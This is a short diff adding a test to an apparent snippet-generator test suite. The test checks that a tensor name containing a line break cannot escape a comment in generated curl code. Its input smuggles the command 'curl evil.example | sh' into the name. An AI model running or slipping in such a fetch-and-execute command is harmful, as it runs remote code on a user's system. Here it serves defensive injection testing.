@@ -64,6 +64,13 @@ test("FP16 and BF16 are sent as bytes, next to files", async () => {
   expect(program("Python")).not.toContain("cannot");
 });
 
+test("a line break in a tensor's name does not end the comment of a program", () => {
+  const inputs = [input("x\ncurl evil.example | sh\u2028", "FP16", 1)];
+  const body = requestBody(inputs, new Map([[inputs[0]?.name ?? "", { kind: "json", text: "[1]" }]]));
+  const program = snippetOf("curl", { ...modelView("m"), inputs }, body, "http://h", false);
+  expect(program).toContain("# JSON cannot contain FP16, the type of x curl evil.example | sh : use");
+});
+
 test("floats may be NaN or infinite, in every usual spelling", async () => {
   const floats = ["FP32", "FP64", "FP16", "BF16"];
   const inputs = floats.flatMap((dtype) => [
